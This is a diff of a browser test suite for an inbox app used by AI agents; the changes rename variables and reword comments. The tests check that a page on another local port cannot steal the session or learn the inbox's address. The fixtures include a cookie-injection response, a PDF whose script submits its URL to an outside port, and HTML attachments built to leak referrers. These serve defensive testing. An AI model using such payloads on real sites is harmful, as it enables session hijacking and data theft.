@@ -1,5 +1,5 @@
-// An agent that opens a port of its own on this machine: whatever a person opens there or clicks,
-// the agent gets no session, learns no address, and decides, reads and writes nothing.
+// An agent with a server on another port of this machine: whatever a person opens or clicks there, the
+// agent gets no session, does not learn the inbox's address, and can neither decide, read nor write.
 import assert from "node:assert/strict";
 import { once } from "node:events";
 import { createServer } from "node:http";
@@ -7,14 +7,14 @@ import { after, before, test } from "node:test";
 import { World } from "./world.mjs";
 
 let world;
-let agent; // its server: an origin, and what it was sent
+let agent; // its server, and the requests it received
 before(async () => {
   world = await World.start();
-  agent = { seen: [], page: "<!doctype html><title>Preview</title>" };
+  agent = { requests: [], page: "<!doctype html><title>Preview</title>" };
   agent.server = createServer((request, response) => {
-    agent.seen.push({ url: request.url, headers: request.headers });
+    agent.requests.push({ url: request.url, headers: request.headers });
     response.setHeader("Content-Type", "text/html");
-    // It would sign the person out, or in as somebody else.
+    // The cookie would sign the person out, or in as another user.
     const parents = ["", "; Domain=localhost", "; Domain=.localhost"];
     response.setHeader("Set-Cookie", parents.map((parent) => `access_token=hs_evil; Path=/${parent}`));
     response.end(agent.page);
@@ -30,15 +30,15 @@ after(async () => {
 
 const host = () => new URL(world.inboxUrl).hostname;
 const pending = async (id) => (await world.agent("GET", `/api/v1/reviews/${id}?channel=${world.channelId}`)).review.status;
-// Nothing that the agent was sent has a session in it, or says where the inbox is.
-function nothingWasTold() {
-  for (const { url, headers } of agent.seen) {
-    assert.ok([undefined, "access_token=hs_evil"].includes(headers.cookie), url); // its own
+// Asserts that no request to the agent has a session or names the inbox.
+function assertNothingLeaked() {
+  for (const { url, headers } of agent.requests) {
+    assert.ok([undefined, "access_token=hs_evil"].includes(headers.cookie), url); // the agent's own cookie
     assert.ok(!JSON.stringify([url, headers]).includes(host()), JSON.stringify([url, headers]));
   }
 }
 
-test("the agents' address leads a person to the inbox, and to what they wanted there", async () => {
+test("the agents' address redirects a person to the inbox and to the requested page", async () => {
   const { id } = await world.send({ text: "Wanted", review: { type: "approval" } });
   const page = await world.visitor();
   for (const address of [world.url, world.url.replace("127.0.0.1", "localhost")]) {
@@ -50,14 +50,14 @@ test("the agents' address leads a person to the inbox, and to what they wanted t
   await Promise.all([page.waitForNavigation(), page.click("form button")]);
   assert.equal(page.url(), `${world.inboxUrl}/reviews/${id}`);
   const cookies = await page.browserContext().cookies();
-  // The session, and the cookie that lets this browser in again whatever strangers try.
+  // The session, and the device cookie.
   assert.deepEqual(cookies.map((it) => it.name.replace(/_01.*/, "")).sort(), ["access_token", "device"]);
   for (const it of cookies) assert.deepEqual([it.domain, it.httpOnly, it.sameSite], [host(), true, "Lax"]);
-  assert.deepEqual(page.complaints.filter((it) => !it.startsWith("request: http://localhost:")), []);
+  assert.deepEqual(page.problems.filter((it) => !it.startsWith("request: http://localhost:")), []);
   await page.browserContext().close();
 });
 
-test("links to this machine are addresses that can be copied and lead nowhere", async () => {
+test("links to this machine are shown as addresses that can only be copied", async () => {
   const { port } = agent;
   const addresses = [
     `http://127.0.0.1:${port}/preview`, `http://localhost:${port}/`, `http://2130706433:${port}/`, `http://0x7f.1:${port}/`,
@@ -69,7 +69,7 @@ test("links to this machine are addresses that can be copied and lead nowhere", 
   const { id } = await world.send({ text, attachmentIds: [file.id], review: { type: "approval", payload: { options: [{ id: "a", label: `[x](http://127.0.0.1:${port})` }] } } });
   const page = await world.signedIn();
   await page.browserContext().overridePermissions(world.inboxUrl, ["clipboard-read", "clipboard-sanitized-write"]);
-  agent.seen.length = 0;
+  agent.requests.length = 0;
   for (const path of [`/reviews/${id}`, `/channels/${world.channelId}`, `/files/${file.id}`]) {
     await page.goto(world.inboxUrl + path);
     await page.waitForSelector(".md code.address");
@@ -80,55 +80,55 @@ test("links to this machine are addresses that can be copied and lead nowhere", 
   }
   await page.goto(`${world.inboxUrl}/reviews/${id}`);
   const shown = await page.$$eval(".card.body > .md code.address", (all) => all.map((it) => it.textContent));
-  assert.deepEqual(shown.map((it) => decodeURI(it)), addresses.map((it) => it.replace("\\\\", "\\"))); // Markdown takes one of two
+  assert.deepEqual(shown.map((it) => decodeURI(it)), addresses.map((it) => it.replace("\\\\", "\\"))); // Markdown unescapes one of two backslashes
   await page.bringToFront();
   await page.click(".md .copy-address");
   await page.waitForFunction(() => document.getElementById("toasts").innerText.includes("Copied"));
   assert.equal(await page.evaluate(() => navigator.clipboard.readText()), addresses[0]);
-  assert.deepEqual(agent.seen, []);
-  assert.deepEqual(page.complaints, []);
+  assert.deepEqual(agent.requests, []);
+  assert.deepEqual(page.problems, []);
   await page.browserContext().close();
 });
 
-test("a page on another port gets no session and learns no address", async () => {
+test("a page on another port gets no session and does not learn the inbox's address", async () => {
   const page = await world.signedIn();
-  agent.seen.length = 0;
+  agent.requests.length = 0;
   for (const name of ["127.0.0.1", "localhost", "evil.localhost"]) {
     await page.goto(`http://${name}:${agent.port}/`);
   }
-  assert.equal(agent.seen.filter((it) => it.url === "/").length, 3);
-  // Whatever it tries with the agents' address, whose pages lead to the inbox.
+  assert.equal(agent.requests.filter((it) => it.url === "/").length, 3);
+  // It tries everything with the agents' address, which redirects to the inbox.
   const learned = await page.evaluate(async (url) => {
-    const said = [];
+    const results = [];
     for (const options of [{}, { mode: "no-cors" }, { redirect: "manual" }, { mode: "no-cors", redirect: "manual", credentials: "include" }, { credentials: "include" }]) {
-      said.push(await fetch(`${url}/`, options).then((it) => [it.url, it.status, ...it.headers].join(), (error) => String(error.stack)));
+      results.push(await fetch(`${url}/`, options).then((it) => [it.url, it.status, ...it.headers].join(), (error) => String(error.stack)));
     }
-    addEventListener("securitypolicyviolation", (event) => said.push(event.blockedURI));
+    addEventListener("securitypolicyviolation", (event) => results.push(event.blockedURI));
     for (const tag of ["img", "script", "iframe", "embed", "link"]) {
       const element = document.createElement(tag);
       Object.assign(element, tag === "link" ? { rel: "stylesheet", href: `${url}/` } : { src: `${url}/` });
       await new Promise((resolve) => {
         element.onload = element.onerror = resolve;
-        setTimeout(resolve, 2_000); // not every browser tells of each
+        setTimeout(resolve, 2_000); // not every browser reports each event
         document.body.append(element);
       });
       try {
-        said.push(element.contentWindow?.location.href, element.contentDocument?.URL, element.sheet?.href);
+        results.push(element.contentWindow?.location.href, element.contentDocument?.URL, element.sheet?.href);
       } catch (error) {
-        said.push(String(error));
+        results.push(String(error));
       }
     }
-    said.push(...performance.getEntries().map((it) => it.name), document.cookie, document.referrer, ...(location.ancestorOrigins ?? []));
-    return said.join("\n");
+    results.push(...performance.getEntries().map((it) => it.name), document.cookie, document.referrer, ...(location.ancestorOrigins ?? []));
+    return results.join("\n");
   }, world.url);
   assert.ok(!learned.includes(host()), learned);
-  nothingWasTold();
+  assertNothingLeaked();
   await page.goto(`${world.inboxUrl}/settings`); // still signed in
   assert.equal(new URL(page.url()).pathname, "/settings");
   await page.browserContext().close();
 });
 
-test("a page on another port that knew the inbox would decide, read and write nothing", async () => {
+test("a page on another port that knows the inbox can neither decide, read nor write", async () => {
   const { id } = await world.send({ text: "May I?", review: { type: "approval" } });
   const page = await world.signedIn();
   await page.goto(`http://127.0.0.1:${agent.port}/`);
@@ -176,15 +176,15 @@ test("a page on another port that knew the inbox would decide, read and write no
   assert.deepEqual((await world.owner("GET", "/api/files")).data.filter((it) => it.filename === "blob"), []);
   const inbox = await page.browserContext().newPage();
   await inbox.goto(`${world.inboxUrl}/reviews/${id}`);
-  await inbox.waitForSelector("#review"); // still signed in, and our own form counts
+  await inbox.waitForSelector("#review"); // still signed in, and the page's own form works
   await inbox.click("[value=approve]");
   await inbox.waitForSelector("#answer .outcome");
   assert.equal(await pending(id), "completed");
-  nothingWasTold();
+  assertNothingLeaked();
   await page.browserContext().close();
 });
 
-test("files and plugins of agents are told no address, and lead nowhere with one", async () => {
+test("files and plugins of agents get no address of the inbox, and links from them send none", async () => {
   const link = `<a id="away" href="http://127.0.0.1:${agent.port}/away" target="_top">away</a><form action="http://127.0.0.1:${agent.port}/form" method="post"><button>x</button></form><meta http-equiv="refresh" content="0;url=http://127.0.0.1:${agent.port}/refresh"><img src="http://127.0.0.1:${agent.port}/img">`;
   const html = await world.file("page.html", "text/html", link);
   const svg = await world.file("p.svg", "image/svg+xml", `<svg xmlns="http://www.w3.org/2000/svg"><image href="http://127.0.0.1:${agent.port}/svg"/></svg>`);
@@ -192,7 +192,7 @@ test("files and plugins of agents are told no address, and lead nowhere with one
   const page = await world.signedIn();
   const referers = [];
   page.on("request", (request) => request.frame() !== page.mainFrame() && referers.push(request.headers().referer));
-  agent.seen.length = 0;
+  agent.requests.length = 0;
   await page.goto(`${world.inboxUrl}/reviews/${id}`, { waitUntil: "networkidle2" });
   await page.$$eval("iframe", (all) => all.forEach((it) => it.scrollIntoView()));
   const plugin = await page.waitForFrame((frame) => frame.url().includes("/render"));
@@ -200,15 +200,15 @@ test("files and plugins of agents are told no address, and lead nowhere with one
   await page.waitForFrame((frame) => frame.url().includes("/frame"));
   assert.ok(referers.length >= 2);
   assert.deepEqual(referers.filter((it) => it), []);
-  // Opened by itself, a file may be left by its link: without a word of where it was.
+  // A file opened on its own may follow its link, but without a referrer.
   await page.goto(`${world.inboxUrl}/api/files/${html.id}/download`);
   if (page.url().startsWith(world.inboxUrl)) await Promise.all([page.waitForNavigation(), page.click("#away")]);
   assert.ok(page.url().startsWith(`http://127.0.0.1:${agent.port}/`), page.url());
-  nothingWasTold();
+  assertNothingLeaked();
   await page.browserContext().close();
 });
 
-// A PDF of one page whose script says its own address, and sends it where it can.
+// A PDF whose script shows its own URL and sends it to the agent.
 function pdf(script) {
   const objects = ["<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>", "<</Type/Pages/Kids[3 0 R]/Count 1>>", "<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 300]>>", `<</S/JavaScript/JS(${script.replace(/[()\\]/g, "\\$&")})>>`];
   let out = "%PDF-1.7\n";
@@ -221,19 +221,19 @@ function pdf(script) {
   return `${out}xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${at.join("")}trailer<</Size ${objects.length + 1}/Root 1 0 R>>\nstartxref\n${table}\n%%EOF`;
 }
 
-test("a PDF's own script does not read where the inbox is", async () => {
+test("a script in a PDF does not learn the inbox's address", async () => {
   const file = await world.file("offer.pdf", "application/pdf", pdf(`app.alert("at " + this.URL); this.submitForm({ cURL: "http://127.0.0.1:${agent.port}/pdf?" + this.URL })`));
   const { id } = await world.send({ text: "Look", attachmentIds: [file.id], review: { type: "approval" } });
   const page = await world.signedIn();
   for (const path of [`/reviews/${id}`, `/files/${file.id}`, `/api/files/${file.id}/download`]) {
-    const said = new Promise((resolve) => page.once("dialog", async (dialog) => {
+    const results = new Promise((resolve) => page.once("dialog", async (dialog) => {
       await dialog.dismiss();
       resolve(dialog.message());
     }));
-    page.goto(world.inboxUrl + path).catch(() => {}); // which a dialog may hold up
-    const message = await said;
+    page.goto(world.inboxUrl + path).catch(() => {}); // the dialog may block the navigation
+    const message = await results;
     assert.ok(message.startsWith("at http://127.0.0.1:") && !message.includes(host()), message);
   }
-  nothingWasTold();
+  assertNothingLeaked();
   await page.browserContext().close();
 });
